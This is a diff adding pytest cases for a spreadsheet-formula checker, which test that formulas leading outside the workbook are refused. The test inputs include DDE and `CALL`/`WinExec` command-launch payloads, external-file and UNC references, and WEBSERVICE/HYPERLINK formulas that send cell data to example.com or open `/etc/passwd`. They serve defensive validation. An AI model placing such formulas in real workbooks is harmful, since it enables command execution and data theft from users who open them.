@@ -239,6 +239,58 @@ def test_what_excel_takes_beyond_our_own_reckoning_is_let_pass(formula: str) -> 
     assert found(changed("'SUM([表!数])/1+MAX([另表!数],-[数])'", f'"{formula}"')) == []
 
 
+OUTSIDE = [
+    ("'http://example.com/[a.xlsx]表'!A1", "checklist-formula-outside"),
+    ("'\\\\server\\share\\[a.xlsx]表'!A1", "checklist-formula-outside"),
+    ("'cmd|/c calc'!A0", "checklist-formula-outside"),
+    ("'[1]表'!A1", "checklist-formula-outside"),
+    ("SUM('file:///C:/[a.xls]表'!$A$1:$B$2)", "checklist-formula-outside"),
+    ("'[a.xlsx]表'!A:B", "checklist-formula"),
+    ("'[a.xlsx]表'!$1:$3", "checklist-formula"),
+    ("COUNTIF(表:另表!A1,1)", "checklist-formula-outside"),
+    ("选项!A1", "checklist-formula-outside"),
+    ("[1]表!A1", "checklist-formula"),
+    ("cmd|'/c calc'!A0", "checklist-unknown-name"),
+    ("'http://example.com/[a.xlsx]表'!名称", "checklist-formula"),
+    ('WEBSERVICE("http://example.com/"&[数])', "checklist-formula-function"),
+    ('_xlfn.WEBSERVICE("http://example.com/")', "checklist-formula-function"),
+    ('_xlfn.IMAGE("http://example.com/a.png")', "checklist-formula-function"),
+    ('CALL("Kernel32","WinExec","JCJ","calc",0)', "checklist-formula-function"),
+    ('RTD("a.b",,"c")', "checklist-formula-function"),
+    ('DDE("cmd";"/c calc";"a")', "checklist-formula"),
+    ("INDIRECT(\"'http://example.com/[a.xlsx]表'!A1\")", "checklist-formula-function"),
+    ('HYPERLINK("http://example.com/"&[数],"看")', "checklist-formula-function"),
+    ('HYPERLINK("\\\\server\\share","看")', "checklist-formula-function"),
+    ("HYPERLINK([填])", "checklist-formula-function"),
+    ('HYPERLINK("#"&[填])', "checklist-formula-function"),
+    ("HYPERLINK(\"#'[a.xlsx]表'!A1\")", "checklist-formula-function"),
+    ('IF(TRUE,HYPERLINK("file:///etc/passwd"),0)', "checklist-formula-function"),
+]
+PLACES = {
+    "a column": ("'SUM([表!数])/1+MAX([另表!数],-[数])'", "formula"),
+    "a check": ("'[数]>0'}\n", "check"),
+    "a condition": ("'[数]>0', format", "when"),
+}
+
+
+@pytest.mark.parametrize(("formula", "rule"), OUTSIDE)
+@pytest.mark.parametrize("place", PLACES)
+def test_what_leads_out_of_the_workbook_is_refused_wherever_a_formula_stands(
+    place: str, formula: str, rule: str
+) -> None:
+    old, key = PLACES[place]
+    quoted = "'" + formula.replace("'", "''") + "'"
+    text = changed(old, old.replace(old[: old.rindex("'") + 1], quoted))
+    rules = {one.rule for one in found(text) if one.path.endswith(key)}
+    assert rule in rules
+
+
+@pytest.mark.parametrize("formula", ['HYPERLINK("#\'表\'!A1","看")', 'HYPERLINK("#统计日期")', "SUM('另表'!A1:B3)"])
+def test_a_link_to_a_place_in_the_workbook_is_none(formula: str) -> None:
+    text = changed("'SUM([表!数])/1+MAX([另表!数],-[数])'", "'" + formula.replace("'", "''") + "'")
+    assert found(text) == []
+
+
 @pytest.fixture(scope="module")
 def builder() -> Builder:
     return Builder([])
